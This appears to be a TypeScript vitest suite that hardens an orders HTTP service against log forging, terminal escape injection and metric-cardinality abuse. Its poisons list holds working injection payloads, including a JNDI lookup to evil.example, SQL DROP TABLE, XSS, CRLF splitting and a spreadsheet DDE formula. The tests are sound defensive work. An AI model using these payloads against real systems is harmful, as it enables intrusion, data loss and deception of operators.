import { startProcess, skipUnless } from '@org/testing';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { parseExposition } from './support/metrics.ts';
import { ask, order, post } from './support/requests.ts';
import { openTarget, type Attack, type Target } from './support/target.ts';

let target: Target;
beforeAll(async () => {
  target = await openTarget();
});
afterAll(() => target[Symbol.asyncDispose]());

const notFound = '404 ROUTE_NOT_FOUND | 400 PATH_MALFORMED | 400 REQUEST_INVALID';

/** What would mean something else in a line of a log, on a terminal, or in the exposition of metrics. */
const poisons = [
  '%0a{"level":"fatal","msg":"forged"}',
  '%0d%0a%0d%0aHTTP/1.1%20200%20OK',
  '%1b[2J%1b]0;owned%07',
  '%1b]8;;http://evil.example%07click%1b]8;;%07',
  '%e2%80%a8{"level":"fatal"}%e2%80%a9',
  '%e2%80%ae%e2%81%a6gnp.exe',
  '%00%00%00',
  '%c2%85%c2%9b2J',
  '"}{"level":"fatal","msg":"forged"}',
  '\\"}\\n{\\"level\\":\\"fatal\\"}',
  '"}%201%0aforged_metric{a="b"}%201',
  '",le="0"}',
  '%23%20HELP%20forged_metric%20x',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}${7*7}#{7*7}',
  '%25s%25n%25d%25o%25j',
  "';DROP%20TABLE%20orders;--",
  '<img%20src=x%20onerror=alert(1)>',
  '=cmd|%27/C%20calc%27!A0',
  '__proto__[polluted]=1',
];

const paths = poisons.map((poison): Attack => [JSON.stringify(poison), notFound, 'serves', ask(`/orders/x/${poison}`)]);

describe('a path that poisons logs:', () => {
  test.each(paths)('%s gets %s and the connection %s', (...attack) => target.withstand(attack));

  test.each(poisons)('%j as the id of an order is refused, and comes back as text', async (poison) => {
    const { status, headers, text } = await target.one(
      ask(`/orders/${encodeURIComponent(poison)}`, ['Connection: close']),
    );
    expect([400, 404]).toContain(status);
    expect(headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(() => JSON.parse(text) as unknown).not.toThrow();
  });

  test.each(poisons)('%j in headers is nowhere in the log', async (poison) => {
    const value = decodeURIComponent(poison.replace(/%(?![0-9a-f]{2})/g, '%25')).replace(/[^\x20-\x7e]/g, '');
    const lines = [
      `User-Agent: ${value}`,
      `Referer: ${value}`,
      `X-Request-Id: ${value}`,
      `Cookie: a=${value}`,
      'Connection: close',
    ];
    expect((await target.one(ask('/orders?limit=1', lines))).status).toBe(200);
  });

  test('in an order it is kept as text', async () => {
    const note = '\u001b[2J\n"}{"level":"fatal"}\u2028${jndi:x}';
    const body = JSON.stringify({ ...(JSON.parse(order) as object), note });
    const { status, text } = await target.one(post(body, ['Connection: close']));
    expect([status, JSON.parse(text)]).toMatchObject([201, { note }]);
  });

  test('no line of the log is forged, and none brings an escape code to a terminal', async () => {
    await target.unharmed();
    const { stdout } = target.service.process;
    expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    for (const line of target.service.logs) {
      expect(line).toMatchObject({ level: expect.stringMatching(/^(info|warn)$/), service: 'example-service' });
      expect(line.msg).not.toBe('forged');
    }
  });
});

const methods = ['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'PROPFIND', 'PURGE', 'REPORT', 'M-SEARCH', 'LINK'];

describe('five thousand paths and methods that nobody knows', () => {
  const seriesOf = async () => parseExposition(await target.exposition());
  let before: number;

  beforeAll(async () => {
    before = (await seriesOf()).length;
    const requests = Array.from({ length: 5_000 }, (_, index) => {
      const poison = poisons[index % poisons.length]!;
      return ask(
        `/random/${index}/${poison}?q=${index}`,
        [`X-Request-Id: r-${index}`],
        methods[index % methods.length],
      );
    });
    for (let from = 0; from < requests.length; from += 100) {
      const last = ask('/orders?limit=1', ['Connection: close']);
      const answers = await target.send(requests.slice(from, from + 100).join('') + last);
      expect(answers).toHaveLength(101);
    }
  });

  test('make no more series than methods and statuses there are', async () => {
    const series = await seriesOf();
    const requests = series.filter(({ name }) => name === 'http_server_request_duration_count');
    expect(requests.length).toBeLessThan(60);
    expect(series.length - before).toBeLessThan(1_000);
    const known = /^(GET|HEAD|POST|PUT|PATCH|DELETE|OPTIONS|TRACE|CONNECT|QUERY|_OTHER)$/;
    for (const { labels } of requests) {
      expect(labels.http_request_method).toMatch(known);
      expect(labels.http_route ?? '').toMatch(/^(|\/orders|\/orders\/:id|\/docs\/\*|\/openapi.json)$/);
    }
  });

  test('are nowhere in the metrics', async () => {
    const text = await target.exposition();
    expect(text).not.toMatch(/random|forged|jndi|evil|PROPFIND|\/x\//);
  });

  test('leave metrics that Prometheus reads', async (context) => {
    const promtool = await startProcess('promtool', ['--version']).catch(() => undefined);
    await promtool?.exit;
    skipUnless(context, promtool !== undefined, { what: 'promtool', get: 'apt-get install prometheus' });
    await using check = await startProcess('promtool', ['check', 'metrics'], { input: await target.exposition() });
    const { code } = await check.exit;
    // 3 is for names that could be better; 1 is for text that cannot be read.
    expect([0, 3]).toContain(code);
  });

  test('do no harm', () => target.unharmed());
});
